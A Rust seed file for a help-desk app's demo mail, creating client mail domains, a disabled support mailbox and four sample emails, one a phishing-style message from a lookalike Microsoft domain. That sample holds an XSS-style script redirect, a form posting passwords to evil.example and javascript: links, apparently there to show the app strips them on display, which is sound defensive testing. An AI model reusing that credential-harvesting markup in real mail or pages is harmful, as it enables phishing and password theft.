//! The demo's mail: its clients' mail domains, a support mailbox (turned
//! off: the demo has no mail server) and a few messages handled through
//! the real path, as if read from it: a client's HTML mail with an inline
//! logo and a tracking pixel, a colleague nobody recorded yet (proposed as
//! a contact), an out-of-office reply, and a phishing-style mail whose
//! scripts and forms are gone when it is shown.

use crate::app::App;
use crate::auth::principal::Principal;
use crate::mail::clients::ClientMail;
use crate::mail::imap::Security;
use crate::mail::mailboxes::{MailboxPatch, NewMailbox};

const LOGO_PNG_BASE64: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

fn messages() -> Vec<String> {
    vec![
        format!(
            "From: \"Dr. Maya Ellison\" <maya@harbordental.example>\r\nTo: support@steward.example\r\nSubject: Front desk printer prints blank pages\r\n\
             Message-ID: <demo-1@harbordental.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=r\r\n\r\n\
             --r\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n\
             --a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi team,\r\n\r\nthe front desk printer only prints blank pages since this morning. \
             Patients are waiting for their forms.\r\n\r\nMaya\r\n\r\nOn Mon, Help Desk wrote:\r\n> Anything else we can do?\r\n\
             --a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Hi team,</p><p>the front desk printer only prints <b>blank pages</b> since this morning. \
             Patients are waiting for their forms.</p><p>Maya<br><img src=\"cid:logo@harbordental\" alt=\"Harbor Dental\"></p>\
             <img src=\"https://tracker.mailer.example/open.gif?id=812\" width=1 height=1>\r\n--a--\r\n\
             --r\r\nContent-Type: image/png\r\nContent-ID: <logo@harbordental>\r\nContent-Transfer-Encoding: base64\r\n\r\n{LOGO_PNG_BASE64}\r\n--r--\r\n"
        ),
        "From: Dispatch Desk <dispatch@northwind.example>\r\nTo: support@steward.example\r\nSubject: Scanner at dock 4 will not connect\r\n\
         Message-ID: <demo-2@northwind.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe handheld scanner at dock 4 cannot join the Wi-Fi since the weekend.\r\n"
            .to_string(),
        "From: Office Bot <noreply@vendor-portal.example>\r\nTo: support@steward.example\r\nSubject: Automatic reply: Renewal\r\nAuto-Submitted: auto-replied\r\n\
         Message-ID: <demo-3@vendor-portal.example>\r\nContent-Type: text/plain\r\n\r\nI am out of the office until Monday.\r\n"
            .to_string(),
        "From: \"IT Security\" <security@micros0ft-support.example>\r\nTo: support@steward.example\r\nSubject: Urgent: confirm your mailbox\r\n\
         Message-ID: <demo-4@micros0ft-support.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <p onmouseover=\"steal()\">Your mailbox will be closed.</p><script>document.location='https://evil.example'</script>\
         <form action=\"https://evil.example/login\"><input name=password><button>Confirm</button></form><a href=\"javascript:steal()\">Confirm now</a>\r\n"
            .to_string(),
    ]
}

pub async fn seed(app: &App, p: &Principal, ids: &[i64]) -> anyhow::Result<()> {
    let err = |e: crate::error::ApiError| anyhow::anyhow!("{e}");
    for (i, domain) in
        ["harbordental.example", "kv-recht.example", "northwind.example", "bluegum.example", "fenwick.example"].into_iter().enumerate()
    {
        let Some(id) = ids.get(i) else { continue };
        let from =
            if i == 2 { ("care@northwind-support.example".to_string(), "Northwind IT Care".to_string()) } else { Default::default() };
        let r = ClientMail { domains: vec![domain.into()], from_address: from.0, from_name: from.1 };
        crate::mail::clients::save(app, p, *id, r).await.map_err(err)?;
    }
    let mb = crate::mail::mailboxes::create_mailbox(
        app,
        p,
        NewMailbox {
            name: "Support (demo: no mail server)".into(),
            host: "imap.demo.invalid".into(),
            port: 993,
            security: Security::Tls,
            username: "support@steward.example".into(),
            password: "demo".into(),
            folder: None,
            ca_pem: None,
            default_client_id: ids[0],
            board_id: None,
            poll_secs: Some(300),
            move_to: None,
            flood_per_hour: None,
        },
    )
    .await
    .map_err(err)?;
    crate::mail::mailboxes::patch_mailbox(app, p, mb.id, MailboxPatch { enabled: Some(false), ..Default::default() }).await.map_err(err)?;
    let row = crate::mail::store::get(&mut app.store.clone(), mb.id).await?.ok_or_else(|| anyhow::anyhow!("the demo mailbox is gone"))?;
    for (uid, raw) in messages().iter().enumerate() {
        crate::mail::ingest::handle(app, &row, 1, uid as i64 + 1, raw.as_bytes()).await?;
    }
    Ok(())
}
